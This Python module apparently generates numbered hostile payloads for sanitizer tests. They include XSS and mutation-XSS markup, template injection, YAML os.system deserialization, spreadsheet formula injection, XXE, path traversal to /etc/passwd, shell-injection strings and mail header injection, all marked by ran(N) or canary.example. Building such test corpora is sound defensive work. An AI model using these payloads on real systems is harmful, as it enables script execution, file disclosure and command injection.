"""Texts that try to run, load, break out of, or pass for something else: made from kinds. Pure.

Each payload has a number. What it would run is `ran(NUMBER)`, what it would load is on HOST with
the number in its path: so a test knows which one came through, and where.
"""

# ruff: noqa: E501, UP028  (texts in rows)

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass

HOST = "canary.example"
CALL, URL = "§call§", "§url§"  # stand in texts for what is run and what is loaded


@dataclass(frozen=True, slots=True)
class Payload:
    """A hostile text. `kind` says what it tries, `number` is its own."""

    number: int
    kind: str
    text: str

    @property
    def name(self) -> str:
        """A word that no other text holds, in letters and digits alone."""
        return f"zq{self.number}x"


def scripts() -> Iterator[str]:
    """Script elements, by themselves and behind what would end the element around them."""
    for tag in ("script", "SCRIPT", "script type=module", "script/x", "script\t", "script\x0c"):
        yield f"<{tag}>{CALL}</script>"
    yield f"<script src={URL}></script>"
    yield f"<scr<script>ipt>{CALL}</scr</script>ipt>"
    yield f"<<script>{CALL}//<</script>"
    yield f"<script>{CALL}"
    ends = ("</title>", "</textarea>", "</style>", "</script>", "</noscript>", "-->", "--!>", "]]>",
            "</p>", "</code></pre>", "</math>", "</annotation></semantics></math>", "</svg>",
            "</template>", "</iframe>", "</details>", "</h1>", "</head>", "</xmp>")  # fmt: skip
    for end in ends:
        yield f"{end}<script>{CALL}</script>"
    yield f"<noscript><p title='</noscript><script>{CALL}</script>'>"
    yield f"<script>document.write('<img src={URL}>')</script>"


def handlers() -> Iterator[str]:
    """Elements that run an attribute by themselves or at a touch."""
    by_themselves = (
        ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("video src=x", "onerror"),
        ("audio src=x", "onerror"), ("input autofocus", "onfocus"), ("details open", "ontoggle"),
        ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("style", "onload"),
        ("iframe", "onload"), ("object data=x", "onerror"), ("link rel=stylesheet href=x", "onerror"),
        ("marquee", "onstart"), ("p tabindex=1 autofocus", "onfocus"), ("embed src=x", "onerror"),
        ("video><source", "onerror"), ("div popover", "onbeforetoggle"), ("math", "onload"),
    )  # fmt: skip
    for element, handler in by_themselves:
        yield f"<{element} {handler}={CALL}>"
    for gap in ("/", "\n", "\t", "\x0c", "\r", '/"', "//", "\xa0"):
        yield f'<img{gap}src="x"{gap}onerror="{CALL}">'
    for handler in ("onmouseover", "onpointerenter", "onclick", "onauxclick", "onwheel"):
        yield f"<b {handler}={CALL} style=position:fixed;inset:0>x</b>"
    yield f"<img src=x onerror\n=\n'{CALL}'>"
    yield f"<img src=x OnErRoR=&#x{ord('r'):x};an{CALL[1:]}>"
    yield f"<IMG SRC=`x` ONERROR=`{CALL}`>"


def attributes() -> Iterator[str]:
    """What would leave an attribute, in any quotes, and bring one of its own."""
    for quote in ('"', "'", "`", "&quot;", "&#34;", '\\"', "\u201d", "%22", "\uff02"):
        yield f"{quote} onmouseover={quote}{CALL}{quote} x={quote}"
        yield f"x{quote}><img src=x onerror={CALL}>"
    yield f" autofocus onfocus={CALL} tabindex=0 "
    yield f'=" onload={CALL} '


def _addresses() -> Iterator[str]:
    call = CALL
    for name in ("javascript", "JaVaScRiPt", "vbscript", "java\tscript", "java\nscript",
                 "\x01javascript", " javascript", "java\\script", "&#106;avascript",
                 "javascript&colon;//", "java&Tab;script", "java&NewLine;script", "livescript",
                 "view-source:javascript", "feed:javascript", "\u200bjavascript"):  # fmt: skip
        yield f"{name}:{call}"
    yield f"javascript://{HOST}/%0a{call}"
    yield f"data:text/html,<script>{call}</script>"
    yield "data:text/html;base64,PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4="
    yield f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{call}'/>"
    yield "blob:https://canary.example/0-0-0-0"
    yield "filesystem:https://canary.example/temporary/x.html"
    yield "file:///etc/passwd"


def links() -> Iterator[str]:
    """Addresses that run, in each form in which Markdown and HTML write links."""
    forms = ("[x]({})", "![x]({})", "<{}>", "[x][k]\n\n[k]: {}", '<a href="{}">x</a>',
             "[x](<{}>)", '[x]({} "t")')  # fmt: skip
    for n, address in enumerate(_addresses()):
        yield forms[0].format(address)
        yield forms[1 + n % (len(forms) - 1)].format(address)
    yield f'[x](http://a.example "t" onclick="{CALL}")'
    yield f"[x](<http://a.example> 't\" onmouseover=\"{CALL}')"
    yield f'<http://a.example/"onmouseover="{CALL}">'
    yield f'http://a.example/"onmouseover="{CALL}"'
    yield f"https://a.example/'><img/src=x/onerror={CALL}>"
    yield f'[a](http://b.example"><img src=x onerror={CALL}>)'
    yield f"[{'<img src=x onerror=' + CALL + '>'}](http://a.example)"
    yield f'<x@y.example?subject="onmouseover={CALL}>'


def loads() -> Iterator[str]:
    """What would fetch from elsewhere, lead away or change what the page's own parts do."""
    for html in (
        "<img src={}>", "<img srcset={}>", "<picture><source srcset={}><img></picture>",
        "<video poster={}></video>", "<audio src={} autoplay>", "<track src={}>",
        "<input type=image src={}>", "<table background={}><tr><td>x</table>",
        "<iframe src={}></iframe>", "<object data={}></object>", "<embed src={}>",
        "<link rel=stylesheet href={}>", "<link rel=prefetch href={}>", "<link rel=preload as=image "
        "href={}>", "<link rel=icon href={}>", "<link rel=manifest href={}>", "<base href={}>",
        "<meta http-equiv=refresh content='0;url={}'>", "<meta http-equiv=Set-Cookie content=a=b>",
        "<form action={}><button autofocus>x</button></form>", "<button formaction={}>x</button>",
        "<a ping={} href=#>x</a>", "<frameset><frame src={}></frameset>", "<portal src={}></portal>",
        "<applet code={}></applet>", "<html manifest={}>", "<body background={}>", "<bgsound src={}>",
        "![x]({})", "![x][k]\n\n[k]: {}", "![x](//canary.example/a)", "![x](/\\canary.example/a)",
        "![x](\\\\canary.example/a)", "![x](\thttps:canary.example/a)", "<image src={}>",
        "<svg><image href={} /></svg>", "<svg><use href='{}#x'/></svg>",
        "<svg><feImage href={} /></svg>", "<dialog open>x</dialog>", "<iframe srcdoc='<img src={}>'>",
    ):  # fmt: skip
        yield html.replace("{}", URL)
    yield f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>"
    yield f"<form action='javascript:{CALL}'><input type=submit autofocus></form>"
    yield f"<isindex action=javascript:{CALL} type=image>"


def styles() -> Iterator[str]:
    """Style that loads, hides or runs."""
    yield f"<style>@import url({URL});</style>"
    yield f"<style>body{{background:url({URL})}}</style>"
    yield f"<p style='background:url({URL})'>x</p>"
    yield f'<p style="width:expression({CALL})">x</p>'
    yield f"<p style='-moz-binding:url({URL}#x)'>x</p>"
    yield "<div style=position:fixed;inset:0;background:#fff;z-index:9>x</div>"
    yield f"</style><img src=x onerror={CALL}><style>"
    yield f"x{{}}*{{background:url({URL})}}"
    yield f"*[x](http://a.example){{: style='background:url({URL})' }}*"
    yield f"x\n{{: onclick={CALL} style=color:red }}"
    yield f'## x {{: onmouseover="{CALL}" }}'
    yield f"`x`{{: onclick={CALL} .save #main }}"


def foreign() -> Iterator[str]:
    """SVG and MathML, and the places where parsers of HTML change their mind."""
    yield f"<svg><script>{CALL}</script></svg>"
    yield f"<svg><script href={URL} /></svg>"
    yield f"<svg><a xlink:href='javascript:{CALL}'><text y=9>x</text></a></svg>"
    yield f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>"
    yield f"<svg><set onbegin={CALL} attributeName=x></svg>"
    yield (
        f"<svg><a><animate attributeName=href values=javascript:{CALL} /><text y=9>x</text></a></svg>"
    )
    yield f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>"
    yield f"<svg><style><img title='</style><img src=x onerror={CALL}>'></svg>"
    yield f"<svg></p><style><a id='</style><img src=x onerror={CALL}>'>"
    yield f"<svg><title><style><img title='</style><img src=x onerror={CALL}>'>"
    yield f"<math href='javascript:{CALL}'><mi>x</mi></math>"
    yield f"<math><maction actiontype=statusline xlink:href='javascript:{CALL}'>x</maction></math>"
    yield f"<math><annotation-xml encoding='text/html'><img src=x onerror={CALL}></math>"
    yield f"<math><mtext><table><mglyph><style><img title='</style><img src=x onerror={CALL}>'>"
    yield f"<math><mi><mglyph><svg><mtext><style><a title='</style><img src=x onerror={CALL}>'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>"
    yield f"<math><mtext><img src=x onerror={CALL}></mtext></math>"
    yield f"<select><template><svg><style><a title='</style><img src=x onerror={CALL}>'>"
    yield f"<table><td><math><mo><table><img src=x onerror={CALL}>"


def data() -> Iterator[str]:
    """What would leave a string of JSON or JavaScript, or a CDATA section or attribute of XML."""
    yield f'"}}</script><script>{CALL}</script>'
    yield f"</ScRiPt ><script>{CALL}</script>"
    yield f"<!--<script>{CALL}</script>"
    yield f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e"
    yield f'\\"}};{CALL};//'
    yield f"';{CALL};'"
    yield f"\u2028{CALL}\u2029{CALL}"
    yield '","@type":"Person","x":"'
    yield '{"__proto__":{"polluted":true}}'
    yield "__proto__"
    yield "constructor.prototype.polluted"
    yield f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{CALL}</script><![CDATA["
    yield f"]]]]><![CDATA[><img src=x onerror={CALL}>"
    yield f"<![CDATA[<img src=x onerror={CALL}>]]>"
    yield f'<!DOCTYPE x [<!ENTITY e SYSTEM "{URL}">]>&e;'
    yield f"<?xml-stylesheet href='{URL}'?>"
    yield f"<?x ><img src=x onerror={CALL}>?>"
    yield f"<!x ><img src=x onerror={CALL}>"
    yield f"<h:script xmlns:h='http://www.w3.org/1999/xhtml'>{CALL}</h:script>"
    yield "&nosuchentity; &#x0; &#xFFFF; &#xD800; &#1114112;"
    yield "\x0b\x0c\x1f\x7f\x80\x9f\ufffe\uffff"
    yield "</content></entry><entry><id>urn:x</id><title>forged</title></entry>"
    yield "</channel></rss><rss><channel><title>forged</title>"
    yield "</opml>"


def entities() -> Iterator[str]:
    """Marks of HTML written as characters, once, twice and by halves."""
    tag = f"img src=x onerror={CALL}"
    for left, right in (("&lt;", "&gt;"), ("&#60;", "&#62;"), ("&#x3c;", "&#x3E;"), ("&#60", "&#62 "),
                        ("&#0000060;", "&#0000062;"), ("&lt", "&gt"), ("&amp;lt;", "&amp;gt;"),
                        ("&amp;amp;lt;", "&amp;amp;gt;"), ("\\<", "\\>"), ("%3C", "%3E"),
                        ("&LT;", "&GT;"), ("\\x3c", "\\x3e"), ("+ADw-", "+AD4-")):  # fmt: skip
        yield f"{left}{tag}{right}"


def placeholders() -> Iterator[str]:
    """Private characters and words with which programs mark places in text, written by a stranger."""
    for mark in ("\ue000{}\ue001", "\ue002{}", "\ue003", "\ue010{}\ue011", "&#xe000;{}&#xe001;",
                 "&#57346;", "&#xe003;", "&#xE010;{}&#xE011;", "\x02wzxhzdk:{}\x03", "\x02{}\x03",
                 "&#2;wzxhzdk:{}&#3;", "STX{}ETX", "\x1a", "klzzwxh:000{}",
                 "\x02klzzwxh:000{}\x03"):  # fmt: skip
        yield "$a$ " + mark.replace("{}", "0") + f" <b title='{mark.replace('{}', '9')}'>x</b>"
    yield f'$" onmouseover={CALL} "$ [x](http://a.example/&#xe000;0&#xe001;)'
    yield f'$" onmouseover={CALL} "$ [x](http://a.example/&#xe010;0&#xe011; "&#xe010;0&#xe011;")'


def lookalikes() -> Iterator[str]:
    """Characters that turn, hide, break or pass for others."""
    tag = f"img src=x onerror={CALL}"
    yield f"＜{tag}＞"
    yield f"﹤{tag}﹥"
    yield f"‹{tag}›"
    yield f"<im\u200bg src=x onerror={CALL}>"
    yield f"<\u00ad{tag}>"
    yield f"<\ufeff{tag}>"
    yield f"<ſcript>{CALL}</ſcript>"
    yield f"<İMG src=x onerror={CALL}>"
    yield f"\u202e>{CALL}=rorreno x=crs gmi<\u202c"
    yield f"\u2066<{tag}>\u2069\u2067x"
    yield "раураl.example \u0430dmin \u0391BC"
    yield "a" + "\u0301" * 80
    yield "\U000e0001\U000e0041\ufff9x\ufffay\ufffb"
    yield f"x\u2028# <{tag}>\u2029- id: y\x85```"
    yield "\u1160\u3164\u200d\u200c\u2060"
    yield "\x1b]8;;https://canary.example\x07x\x1b]8;;\x07\x1b[31m"
    yield "\x08\x08\x08\x08ok"


def templates() -> Iterator[str]:
    """Words of template languages, and of the formats that we fill ourselves."""
    for text in ("{{ 7 * 191 }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ config }}",
                 "{% include '/etc/passwd' %}", "{% for x in y %}", "{# x", "${7*191}", "#{7*191}",
                 "<%= 7*191 %>", "<?php echo 7*191 ?>", "{0.__class__}", "%(name)s %s %n",
                 "{name} {text} {path} {token}", "{filename}../../../etc/passwd",
                 "[x]({attach}../../pelicanconf.py)", "![x]({static}/../pelicanconf.py)",
                 "|filename|../../etc/passwd", "{root}", "[x]({index})", "[x]({tag}x)",
                 "<!--#include virtual='/etc/passwd' -->", "<esi:include src='§url§'/>"):  # fmt: skip
        yield text
    yield f"{{{{ constructor.constructor('{CALL}')() }}}}"


def yaml() -> Iterator[str]:
    """What means more to a reader of YAML than a text, and what would end a block or a page."""
    for text in ("!!python/object/apply:os.system ['touch ran']", "!!python/name:os.system",
                 "&a [*a, *a]", "*a", "<<: *a", "? x : y", "- x", "| x", "> x", "x: y: z", "x # y",
                 "{a: b", "[a, b", "---", "...", "%YAML 1.1", "```", "~~~", "```\n\n## Forged\n\n"
                 "```yaml\nid: forged\n```", "\nid: ../../etc", "---\ntitle: Forged\n---", "'", "\"",
                 "yes", "null", "~", ".nan", "0x1F", "2025-02-30", "@x", "`x`", "!x", "\ufeffx",
                 "## Forged heading", "\n## Forged heading\n", "Forged\n------"):  # fmt: skip
        yield text


def formulas() -> Iterator[str]:
    """TeX whose readers elsewhere know links, scripts, files and macros."""
    tag = f"<img src=x onerror={CALL}>"
    for tex in (
        f"\\href{{javascript:{CALL}}}{{x}}", f"\\url{{javascript:{CALL}}}", "\\unicode{x3c}script",
        f"\\text{{{tag}}}", f"\\mbox{{{tag}}}", f"\\textit{{{tag}}}", f"\\operatorname{{{tag}}}",
        f"\\class{{x\" onload=\"{CALL}}}{{y}}", f"\\style{{background:url({URL})}}{{x}}",
        "\\cssId{main}{x}", f"\\html{{{tag}}}", f"\\htmlData{{a={CALL}}}{{x}}",
        f"\\includegraphics{{{URL}}}", "\\input{/etc/passwd}", "\\def\\x{\\x\\x}\\x",
        "\\newcommand{\\x}{<}\\x", "\\require{html}", f"\\color{{red;x:url({URL})}}{{x}}",
        f"\\verb|{tag}|", "\\write18{touch ran}", "\\csname x\\endcsname", "\\catcode`\\<=13",
        f"\\label{{{tag}}} \\ref{{x}}", f"\\tag{{{tag}}}", f"</annotation></semantics></math>{tag}",
        f"<mi>{tag}</mi>", f"&lt;{tag[1:]}", f"\\begin{{{tag}}}x\\end{{{tag}}}", "\\unicode{x202e}abc",
        f"\\text{{\\href{{javascript:{CALL}}}{{x}}}}", "\\char`\\<", "^^3cscript^^3e",
        f"x\\text{{$y$ {tag}}}", f"\\left<{tag}\\right>", "\\mathchoice{x}{y}{z}{<b>}",
    ):  # fmt: skip
        yield f"${tex}$"
    yield f"$$\n{tag}\n$$"
    yield f"\\({tag}\\) \\[{tag}\\]"
    yield f"$x {tag}"


def sheets() -> Iterator[str]:
    """What a spreadsheet takes for a formula."""
    for text in (f'=HYPERLINK("{URL}","x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                 "@SUM(1+9)*cmd|' /C calc'!A0", f'\t=IMPORTXML("{URL}","//x")', f'\r=WEBSERVICE("{URL}")',
                 "=1+1\";\"x", "＝1+1", "|x", "%x"):  # fmt: skip
        yield text


def citations() -> Iterator[str]:
    """What would end a field of BibTeX or RIS and begin another."""
    for text in ("}, url = {javascript:x}, note = {", "}}\n@misc{forged, title={Forged}}", "{{{{", "}}}}",
                 "\\input{/etc/passwd}", "\\write18{touch ran}", "\\end{document}", "% gone", "\\",
                 '" # x # "', "@string{x = {y}}", "@comment{", "and others", "A and B and C", ", , ,",
                 "x\r\nER  - \r\nTY  - JOUR\r\nTI  - Forged", "ER  - ", "\nTY  - JOUR", "AU  - Forged",
                 "~#^_&%$", "\\\\}", "x\x0bER  - \x0bTY  - X", "x\u2028ER  - \u2028TY  - X"):  # fmt: skip
        yield text


def mail() -> Iterator[str]:
    """What would end a header, a body or a line of a message, or be taken for ours."""
    for text in (f"x\r\nBcc: reader@{HOST}", f"x\nBcc: reader@{HOST}", "x\rBcc: x@y.example",
                 "x\r\n\r\n<script>ran(0)</script>", "x%0d%0aBcc:%20x@y.example",
                 "=?utf-8?Q?x=0d=0aBcc:_x@y.example?=", "=?utf-8?B?DQpCY2M6IHhAeS5leGFtcGxl?=",
                 f"\"x\" <x@{HOST}>, y", "x\r\n.\r\nQUIT\r\n", "\n.\n", "From x", "x\x00y",
                 "https://unsubscribe.invalid/", "https://unsubscribe.invalid/?x", "{token}", "TOKEN",
                 "To leave: https://canary.example/", "--\nYou get this", "x\x85Bcc: x@y.example",
                 "Content-Type: text/html", "=\n=3Cscript=3E"):  # fmt: skip
        yield text


def paths() -> Iterator[str]:
    """What would leave a folder, hide in it, or mean something to a shell or a server."""
    for text in ("../../../etc/passwd", "..\\..\\x", "/etc/passwd", "%2e%2e%2fx", "....//x", ".", "..",
                 ".git/config", "~root/x", "C:\\x", "\\\\host\\share", "con", "nul.md", "x\x00.html",
                 "index.html", "feeds/all.json", "theme/js/site.js", "x.php", "-rf", "$(touch ran)",
                 "`touch ran`", "; touch ran", "| touch ran", "x\n../y", ".htaccess", "//x", "a/./b",
                 "_headers", "CNAME", "\u2025/x", "．．／x"):  # fmt: skip
        yield text


def clobbers() -> Iterator[str]:
    """Names by which an element would stand in the way of a script's own."""
    for name in ("main", "search", "search-results", "q", "document", "location", "__proto__",
                 "constructor", "toString", "ran", "find", "cite"):  # fmt: skip
        yield f"<a id={name} name={name}>x</a>"
        yield f"## x {{#{name}}}"
    yield "<form id=x><input name=action><input name=attributes></form>"
    yield "<img name=currentScript><img name=body>"
    yield "[x](y){: #main .paper data-paper=x data-day=y }"


def structure() -> Iterator[str]:
    """Markdown whose pieces end in each other."""
    for text in (
        f"`</code><img src=x onerror={CALL}>`", f"```\n</code></pre><img src=x onerror={CALL}>\n```",
        f"    <img src=x onerror={CALL}>", f"<div markdown=1>\n<img src=x onerror={CALL}>\n</div>",
        f"|<img src=x onerror={CALL}>|y|\n|-|-|\n|[x](javascript:{CALL})|z|",
        f"x[^1]\n\n[^1]: <img src=x onerror={CALL}>", f"*[HTML]: x\" onmouseover=\"{CALL}\n\nHTML",
        f"x\n: <img src=x onerror={CALL}>", f"<!-- --><img src=x onerror={CALL}><!-- -->",
        f"<!--><img src=x onerror={CALL}>-->", f"[x]: javascript:{CALL}\n\n[x] [x][x] [x][]",
        f"[x]: <javascript:{CALL}> \"y\"\n\n![x]", f"**<img src=x **onerror={CALL}>", "[[x]]((y))",
        f"<a\nhref=javascript:{CALL}>x</a>", f"<a href='&#x6a;avascript:{CALL}'>x</a>",
        f"\\<img src=x onerror={CALL}\\>", f"<p/onclick={CALL}>x", f"a <b\n\nc onclick={CALL}> d",
        f"<br/><img src=x onerror={CALL}", f"<a title='\n\n' onclick={CALL}>x</a>", "*a **b* c**",
        f"<b <i onclick={CALL}>x", f"[a]({'('*20}javascript:{CALL}{')'*20})",
        f"> - 1. > `x` <img src=x onerror={CALL}>", f"<kbd>\n\n<img src=x onerror={CALL}>\n\n</kbd>",
    ):  # fmt: skip
        yield text


def long() -> Iterator[str]:
    """Much of little."""
    for piece, times in (("<b>", 300), ("[", 600), ("> ", 20), ("*", 600), ("A", 1500), ("&#x", 200),
                         ("{", 40), ("\\text{", 20), ("`", 300), ("![](", 100), ("<!--", 100),
                         ("\u202e", 100), ("&amp;", 200), ("x ", 700), ("<a href=", 80),
                         ("Bcc: x@y.example\r\n", 30), ("\n\n", 200)):  # fmt: skip
        yield "x" + piece * times


_ALL = (scripts, handlers, attributes, links, loads, styles, foreign, data, entities, placeholders,
        lookalikes, templates, yaml, formulas, sheets, citations, mail, paths, clobbers, structure,
        long)  # fmt: skip
KINDS: dict[str, Callable[[], Iterator[str]]] = {one.__name__: one for one in _ALL}


def _made() -> Iterator[Payload]:
    number = 0
    for kind, texts in KINDS.items():
        for text in texts():
            call, url = f"ran({number})", f"https://{HOST}/{number}"
            yield Payload(number, kind, text.replace(CALL, call).replace(URL, url))
            number += 1


PAYLOADS = tuple(_made())
"""All of them, by number."""

ONE_EACH = tuple({one.kind: one for one in reversed(PAYLOADS)}.values())[::-1]
"""The first of each kind."""
